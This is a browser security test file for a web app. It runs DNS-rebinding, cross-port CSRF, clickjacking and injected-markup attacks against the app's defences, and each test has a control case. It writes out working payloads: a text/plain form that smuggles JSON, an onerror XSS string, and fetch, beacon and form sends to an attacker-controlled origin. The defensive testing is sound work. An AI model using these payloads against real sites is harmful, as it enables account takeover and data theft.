import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { missingBrowser, openBrowser } from "../support/browser.ts";
import { openShowcase, type Showcase } from "../support/showcase.ts";

// Other people's pages in the browser of somebody who is signed in: a name that is rebound to this machine, a server on
// another port of localhost (which is the same site, so that SameSite=Strict cookies go along), a frame, and markup that
// got into a page of ours after all. Each attack has a control that shows it would work where the defence is not.

const REBOUND = "countersign.attacker.example";

let world: Showcase;
let browser: Browser;
let context: BrowserContext;
const servers: Server[] = [];

type Handle = (request: IncomingMessage, response: ServerResponse) => void;
/** A server of the attacker's on localhost; gives its origin. */
async function evil(handle: Handle): Promise<string> {
  const server = createServer(handle);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}
const html = (response: ServerResponse, body: string): void => {
  response.setHeader("content-type", "text/html; charset=utf-8");
  response.end(`<!doctype html><title>evil</title>${body}`);
};

// What runs in the attacker's pages, or would in ours.

const run = <T>(page: Page, script: string, given: unknown): Promise<T> =>
  page.evaluate<T>(`(${script})(${JSON.stringify(given)})`);

const ASK_EVERYTHING = `async (id) => {
  const one = (path, init) => fetch(path, init).then(({ status }) => status, () => "failed");
  const headers = { "content-type": "application/json", "x-csrf-token": "csrf-of-the-test" };
  return [
    await one("/api/v1/session"),
    await one("/api/v1/requests"),
    await one("/assets/main.js"),
    await one("/api/v1/requests/" + id + "/decisions", { method: "POST", headers, body: "{}" }),
  ];
}`;

// With text/plain the body is name=value: JSON with an equals sign somewhere in it.
const POST_FORM = `({ action, enctype, text }) => {
  const form = document.createElement("form");
  Object.assign(form, { action, enctype, method: "post" });
  const field = document.createElement("input");
  Object.assign(field, { name: text.slice(0, -1) + ',"x":"', value: '"}' });
  form.append(field);
  document.body.append(form);
  form.submit();
}`;

const READ_AND_WRITE = `async ({ url, text, base }) => {
  const json = { "content-type": "application/json" };
  const plain = { "content-type": "text/plain" };
  const tries = [
    [url, { method: "POST", mode: "no-cors", headers: plain, body: text }],
    [url, { method: "POST", mode: "cors", headers: json, body: text }],
    [url, { method: "POST", mode: "no-cors", body: new Blob([text], { type: "application/json" }) }],
    [base + "/api/v1/session", {}],
    [base + "/api/v1/requests", { mode: "no-cors" }],
    [base + "/", { mode: "no-cors" }],
  ];
  const seen = [];
  for (const [to, init] of tries)
    seen.push(await fetch(to, { ...init, credentials: "include" }).then((it) => it.text(), () => ""));
  navigator.sendBeacon(url, new Blob([text], { type: "text/plain" }));
  const source = new EventSource(base + "/api/v1/events", { withCredentials: true });
  await new Promise((resolve) => (source.onerror = resolve));
  return { seen, stream: source.readyState };
}`;

interface Tried {
  readonly said: readonly string[];
  readonly ran: boolean;
  readonly position: string;
  readonly base: boolean;
  readonly blocked: readonly string[];
}
const DO_HARM = `async (base) => {
  // What the test's own hand starts may evaluate; what comes after a pause is the page's.
  await new Promise((resolve) => setTimeout(resolve, 10));
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const attempt = (name, work) => {
    try {
      work();
      return name + " done";
    } catch (error) {
      return name + " " + error.name;
    }
  };
  const script = document.createElement("script");
  const add = (tag, more) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(more)) element.setAttribute(name, value);
    document.body.append(element);
  };
  const said = [
    attempt("innerHTML", () => (document.body.innerHTML = "<img src=x onerror=ran=true>")),
    attempt("script text", () => (script.text = "ran=true")),
    attempt("script src", () => (script.src = base + "/x.js")),
    attempt("attribute", () => document.body.setAttribute("onclick", "ran=true")),
    attempt("object", () => add("object", { data: base + "/object" })),
    attempt("eval", () => (0, eval)("globalThis.ran = true")),
    attempt("policy", () => trustedTypes.createPolicy("evil", {})),
    attempt("our policy again", () => trustedTypes.createPolicy("countersign", {})),
  ];
  add("img", { src: base + "/img" });
  add("link", { rel: "stylesheet", href: base + "/style" });
  add("link", { rel: "prefetch", href: base + "/prefetch" });
  add("iframe", { src: base + "/frame" });
  add("video", { src: base + "/video" });
  add("base", { href: base });
  add("p", { style: "position:fixed" });
  await fetch(base + "/fetch", { mode: "no-cors" }).catch(() => undefined);
  try {
    navigator.sendBeacon(base + "/beacon", "x");
  } catch {}
  const form = document.createElement("form");
  Object.assign(form, { action: base + "/form", method: "post" });
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
  return {
    said,
    ran: "ran" in globalThis,
    position: getComputedStyle(document.querySelector("p[style]")).position,
    base: document.baseURI.startsWith(base),
    blocked: [...new Set(blocked)].sort(),
  };
}`;

describe.skipIf(missingBrowser() !== null)("a page of somebody else's", () => {
  beforeAll(async () => {
    world = await openShowcase();
    browser = await openBrowser([`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`]);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.close();
  });
  afterEach(async () => {
    await context?.close();
    for (const server of servers.splice(0)) {
      server.closeAllConnections();
      server.close();
    }
  });
  const signedIn = async (): Promise<Page> => {
    context = await browser.newContext();
    await context.addCookies([{ ...world.cookie("ben"), sameSite: "Strict", httpOnly: true }]);
    return context.newPage();
  };

  test("under a name that is rebound to this machine gets no page, no data and no decision", async () => {
    const page = await signedIn();
    const { value } = world.cookie("ben");
    // What the attacker would need most: the cookie under his own name. Even so the name is not ours.
    await context.addCookies([
      { name: "session", value, domain: REBOUND, path: "/", sameSite: "Strict", httpOnly: true },
    ]);
    const port = new URL(world.origin).port;
    const answer = await page.goto(`http://${REBOUND}:${port}/requests/${world.requests.deploy}`);
    expect(answer?.status()).toBe(421);
    expect(await page.locator(".request, meta[name=csrf]").count()).toBe(0);
    const tried = await run<(number | string)[]>(page, ASK_EVERYTHING, world.requests.deploy);
    // A page without script may not fetch at all; where it may, every answer is the wrong address.
    expect(new Set(tried).size).toBe(1);
    expect([421, "failed"]).toContain(tried[0]);
    // The control: under its own name the same browser gets the page.
    expect((await page.goto(`${world.origin}/requests/${world.requests.deploy}`))?.status()).toBe(200);
    expect(await page.locator(".request").count()).toBe(1);
  });

  test("on another port posts, beacons, streams and frames nothing, though the cookie goes along", async () => {
    const got: string[] = [];
    const origin = await evil((request, response) => {
      got.push(request.headers.cookie ?? "");
      html(response, "");
    });
    const page = await signedIn();
    await page.goto(origin);
    // The control: a cookie knows no port. Whoever believed SameSite alone would act in ben's name.
    expect(got[0]).toContain(world.cookie("ben").value);

    const { size } = world.home.store.head();
    const target = `${world.origin}/api/v1/requests/${world.requests.deploy}/inquiries`;
    const body = JSON.stringify({ text: "written by another page" });
    const statuses: number[] = [];
    page.on("response", (response) => {
      if (response.url().startsWith(world.origin)) statuses.push(response.status());
    });
    for (const enctype of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      await page.goto(origin);
      await run(page, POST_FORM, { action: target, enctype, text: body });
      await page.waitForURL(`${world.origin}/**`);
      await page.waitForLoadState();
    }
    expect(statuses.filter((status) => status < 400)).toEqual([]);
    await page.goto(origin);
    const read = await run(page, READ_AND_WRITE, { url: target, text: body, base: world.origin });
    expect(read).toEqual({ seen: ["", "", "", "", "", ""], stream: 2 });
    expect(world.home.store.head().size).toBe(size);
  });

  test("can't frame one of ours, and that is the pages' own headers' doing", async () => {
    const cookie = `session=${world.cookie("ben").value}`;
    const path = `/requests/${world.requests.deploy}`;
    const real = await fetch(`${world.origin}${path}`, { headers: { cookie } });
    const body = await real.text();
    const FRAMING = new Set(["content-security-policy", "x-frame-options"]);
    // What the browser is sent, from a place whose door keeps no frame out: only the headers are left to do it.
    const serveWith = (keep: (name: string) => boolean): Promise<string> =>
      evil((_request, response) => {
        for (const [name, value] of real.headers) {
          if (keep(name) && !["content-length", "connection", "keep-alive", "date"].includes(name))
            response.setHeader(name, value);
        }
        response.end(body);
      });
    const framed = async (inner: string): Promise<number> => {
      const outer = await evil((_request, response) => html(response, `<iframe src="${inner}"></iframe>`));
      const page = await signedIn();
      await page.goto(outer);
      await page.waitForTimeout(300);
      const count = await page.frames()[1]?.locator(".request").count();
      await context.close();
      return count ?? 0;
    };
    expect(await framed(await serveWith((name) => !FRAMING.has(name)))).toBe(1);
    expect(await framed(await serveWith((name) => name !== "x-frame-options"))).toBe(0);
    expect(await framed(await serveWith((name) => name !== "content-security-policy"))).toBe(0);
  });

  test("has no way to run, load, style or send, once its markup is in one of ours", async () => {
    const got: string[] = [];
    const origin = await evil((request, response) => {
      got.push(request.url ?? "");
      response.setHeader("access-control-allow-origin", "*");
      response.end("globalThis.ran = true");
    });
    const page = await signedIn();
    await page.goto(`${world.origin}/requests/${world.requests.deploy}`);
    await page.waitForSelector("html[data-ready]");
    const tried = await run<Tried>(page, DO_HARM, origin);
    expect(tried.said).toEqual([
      "innerHTML TypeError",
      "script text TypeError",
      "script src TypeError",
      "attribute TypeError",
      "object TypeError",
      "eval EvalError",
      "policy TypeError",
      "our policy again TypeError",
    ]);
    expect(tried).toMatchObject({ ran: false, position: "static", base: false });
    expect(tried.blocked).toEqual(expect.arrayContaining(["connect-src", "form-action", "img-src"]));
    expect(got).toEqual([]);
  });
});
